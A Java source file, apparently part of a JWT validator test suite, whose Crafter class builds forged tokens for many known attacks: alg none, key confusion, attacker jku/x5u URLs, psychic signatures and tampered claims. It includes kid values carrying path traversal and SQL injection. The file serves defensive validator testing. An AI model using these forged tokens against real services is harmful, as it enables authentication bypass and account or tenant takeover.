package dev.prodlike.jwt.internal;

import dev.prodlike.jwt.Attack;
import dev.prodlike.jwt.TestTokens;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Builds the attack suite's tokens: each attack's token under the issuer's or the attacker's key. */
final class Crafter {
    /** Tenant signed into most attack tokens: {@value}. */
    static final String VICTIM_TENANT = "victim-tenant";
    /** Tenant an attacker actually holds a token for (tampering attack): {@value}. */
    static final String ATTACKER_TENANT = "attacker-tenant";
    /** Subject of attack tokens: {@value}. */
    static final String ATTACKER_SUBJECT = "attacker";
    /** Critical header extension no validator knows: {@value}. */
    static final String UNKNOWN_CRIT = "x-prodlike-unknown";
    /** Secret the SQL injection variant selects: {@value}. */
    static final String SQL_SECRET = "prodlike-attacker-secret";
    /** Path of the attacker JWKS for the jku attack: {@value}. */
    static final String JKU_PATH = "/jku/jwks.json";
    /** Path of the attacker document for the x5u attack: {@value}. */
    static final String X5U_PATH = "/x5u/jwks.json";

    private final TestTokens issuer;
    private final KeyPair attacker;
    private final String attackerKid;
    private final LocalHttpServer attackerServer;
    private final KeyPair own;
    private final String kid;
    private final String alg;
    private final Instant now;

    Crafter(TestTokens issuer, KeyPair attacker, String attackerKid, LocalHttpServer attackerServer) {
        this.issuer = issuer;
        this.attacker = attacker;
        this.attackerKid = attackerKid;
        this.attackerServer = attackerServer;
        this.own = issuer.currentKeyPair();
        this.kid = issuer.currentKeyId();
        this.alg = issuer.algorithm();
        this.now = issuer.clock().instant();
    }

    String notApplicable(Attack attack) {
        if (attack == Attack.PSYCHIC_SIGNATURE && !alg.equals("ES256")) {
            return "ES256 issuers only";
        }
        return null;
    }

    /**
     * A switch expression with a case for every attack and no default: a new {@link Attack} constant without the
     * tokens that carry it out does not compile.
     */
    List<Variant> craft(Attack attack) {
        List<Variant> out = new ArrayList<>();
        return switch (attack) {
            case ALG_NONE -> {
                out.add(new Variant(attack, "alg none", unsigned("none")));
                yield out;
            }
            case ALG_NONE_CASE_VARIANTS -> {
                for (String none : List.of("None", "NONE", "nOnE")) {
                    out.add(new Variant(attack, "alg " + none, unsigned(none)));
                }
                yield out;
            }
            case SIGNATURE_STRIPPED -> {
                String genuine = signed(header(alg, kid), claims());
                out.add(new Variant(attack, "signature removed", genuine.substring(0, genuine.lastIndexOf('.') + 1)));
                yield out;
            }
            case FOREIGN_KEY_SIGNATURE -> {
                out.add(new Variant(
                        attack,
                        "attacker key under the issuer's kid",
                        Jws.assemble(header(alg, kid), claims(), Jws.asymmetric(alg, attacker.getPrivate()))));
                yield out;
            }
            case HS256_WITH_PUBLIC_KEY -> {
                byte[] der = own.getPublic().getEncoded();
                String pem = Keys.pem(own.getPublic());
                out.add(new Variant(attack, "HMAC secret = public key DER", hmac(kid, der)));
                out.add(new Variant(
                        attack, "HMAC secret = public key PEM", hmac(kid, pem.getBytes(StandardCharsets.US_ASCII))));
                out.add(new Variant(
                        attack,
                        "HMAC secret = public key PEM without trailing newline",
                        hmac(kid, pem.trim().getBytes(StandardCharsets.US_ASCII))));
                yield out;
            }
            case EMBEDDED_JWK -> {
                Map<String, Object> h = header(alg, attackerKid);
                h.put("jwk", Keys.publicJwk(attackerKid, alg, attacker.getPublic()));
                out.add(new Variant(attack, "attacker key in jwk header", attackerSigned(h)));
                yield out;
            }
            case JKU_ATTACKER_JWKS -> {
                Map<String, Object> h = header(alg, attackerKid);
                h.put("jku", attackerServer.uri(JKU_PATH).toString());
                out.add(new Variant(attack, "jku to attacker JWKS", attackerSigned(h)));
                yield out;
            }
            case X5U_ATTACKER_URL -> {
                Map<String, Object> h = header(alg, attackerKid);
                h.put("x5u", attackerServer.uri(X5U_PATH).toString());
                out.add(new Variant(attack, "x5u to attacker URL", attackerSigned(h)));
                yield out;
            }
            case KID_INJECTION -> {
                out.add(new Variant(
                        attack,
                        "kid path traversal to /dev/null, empty HMAC key",
                        hmac("../../../../../../../../dev/null", new byte[0])));
                out.add(new Variant(
                        attack,
                        "kid SQL injection selecting a known secret",
                        hmac("x' UNION SELECT '" + SQL_SECRET + "' -- ", SQL_SECRET.getBytes(StandardCharsets.UTF_8))));
                out.add(new Variant(attack, "unknown kid, empty HMAC key", hmac("prodlike-no-such-key", new byte[0])));
                yield out;
            }
            case PSYCHIC_SIGNATURE -> {
                String input = Json.b64Json(header("ES256", kid)) + "." + Json.b64Json(claims());
                out.add(new Variant(attack, "r = s = 0", input + "." + Json.b64(new byte[64])));
                yield out;
            }
            case UNKNOWN_CRIT_HEADER -> {
                Map<String, Object> h = header(alg, kid);
                h.put("crit", List.of(UNKNOWN_CRIT));
                h.put(UNKNOWN_CRIT, true);
                out.add(new Variant(attack, "crit [" + UNKNOWN_CRIT + "]", signed(h, claims())));
                yield out;
            }
            case DISALLOWED_ALGORITHM -> {
                for (String other : disallowed()) {
                    out.add(new Variant(
                            attack,
                            other + " with the issuer's key",
                            Jws.assemble(header(other, kid), claims(), Jws.asymmetric(other, own.getPrivate()))));
                }
                yield out;
            }
            case EXPIRED -> {
                Map<String, Object> c = claims();
                c.put("iat", now.minusSeconds(75 * 60).getEpochSecond());
                c.put("exp", now.minusSeconds(60 * 60).getEpochSecond());
                out.add(new Variant(attack, "exp 1 hour ago", signed(header(alg, kid), c)));
                yield out;
            }
            case NOT_YET_VALID -> {
                Map<String, Object> c = claims();
                c.put("nbf", now.plusSeconds(60 * 60).getEpochSecond());
                c.put(
                        "exp",
                        now.plusSeconds(60 * 60).plus(issuer.tokenLifetime()).getEpochSecond());
                out.add(new Variant(attack, "nbf in 1 hour", signed(header(alg, kid), c)));
                yield out;
            }
            case MISSING_EXP -> {
                Map<String, Object> c = claims();
                c.remove("exp");
                out.add(new Variant(attack, "no exp claim", signed(header(alg, kid), c)));
                yield out;
            }
            case WRONG_ISSUER -> {
                Map<String, Object> c = claims();
                c.put("iss", "https://attacker.invalid");
                out.add(new Variant(attack, "another issuer", signed(header(alg, kid), c)));
                c = claims();
                c.put("iss", issuer.issuer() + ".attacker.invalid");
                out.add(new Variant(
                        attack, "issuer with a suffix (passes a prefix check)", signed(header(alg, kid), c)));
                for (LookAlike l : LookAlike.ofIssuer(issuer.issuer())) {
                    c = claims();
                    c.put("iss", l.value());
                    out.add(new Variant(attack, l.name(), signed(header(alg, kid), c)));
                }
                yield out;
            }
            case WRONG_AUDIENCE -> {
                Map<String, Object> c = claims();
                c.put("aud", "another-service");
                out.add(new Variant(attack, "another audience", signed(header(alg, kid), c)));
                c = claims();
                c.put("aud", List.of("another-service"));
                out.add(new Variant(attack, "another audience as an array", signed(header(alg, kid), c)));
                for (LookAlike l : LookAlike.ofAudience(issuer.audience())) {
                    c = claims();
                    c.put("aud", l.value());
                    out.add(new Variant(attack, l.name(), signed(header(alg, kid), c)));
                }
                yield out;
            }
            case TAMPERED_TENANT_CLAIM -> {
                Map<String, Object> c = claims();
                c.put(issuer.tenantClaim(), ATTACKER_TENANT);
                String genuine = signed(header(alg, kid), c);
                c.put(issuer.tenantClaim(), VICTIM_TENANT);
                String[] parts = genuine.split("\\.");
                out.add(new Variant(
                        attack,
                        ATTACKER_TENANT + " changed to " + VICTIM_TENANT + " after signing",
                        parts[0] + "." + Json.b64Json(c) + "." + parts[2]));
                yield out;
            }
            case MISSING_TENANT_CLAIM -> {
                Map<String, Object> c = claims();
                c.remove(issuer.tenantClaim());
                out.add(new Variant(attack, "no " + issuer.tenantClaim() + " claim", signed(header(alg, kid), c)));
                yield out;
            }
        };
    }

    private List<String> disallowed() {
        switch (alg) {
            case "RS256":
                return List.of("RS384", "RS512", "PS256");
            case "PS256":
                return List.of("RS256", "PS384", "PS512");
            default:
                return List.of("ES384", "ES512");
        }
    }

    private Map<String, Object> header(String a, String keyId) {
        Map<String, Object> h = new LinkedHashMap<>();
        h.put("alg", a);
        h.put("typ", "JWT");
        h.put("kid", keyId);
        return h;
    }

    private Map<String, Object> claims() {
        Map<String, Object> c = new LinkedHashMap<>();
        c.put("iss", issuer.issuer());
        c.put("sub", ATTACKER_SUBJECT);
        c.put("aud", issuer.audience());
        c.put(issuer.tenantClaim(), VICTIM_TENANT);
        c.put("iat", now.getEpochSecond());
        c.put("exp", now.plus(issuer.tokenLifetime()).getEpochSecond());
        return c;
    }

    private String signed(Map<String, Object> header, Map<String, Object> claims) {
        return Jws.assemble(header, claims, Jws.asymmetric(alg, own.getPrivate()));
    }

    private String attackerSigned(Map<String, Object> header) {
        return Jws.assemble(header, claims(), Jws.asymmetric(alg, attacker.getPrivate()));
    }

    private String unsigned(String none) {
        Map<String, Object> h = new LinkedHashMap<>();
        h.put("alg", none);
        h.put("typ", "JWT");
        return Json.b64Json(h) + "." + Json.b64Json(claims()) + ".";
    }

    private String hmac(String keyId, byte[] secret) {
        return Jws.assemble(header("HS256", keyId), claims(), Jws.hmac("HS256", secret));
    }
}
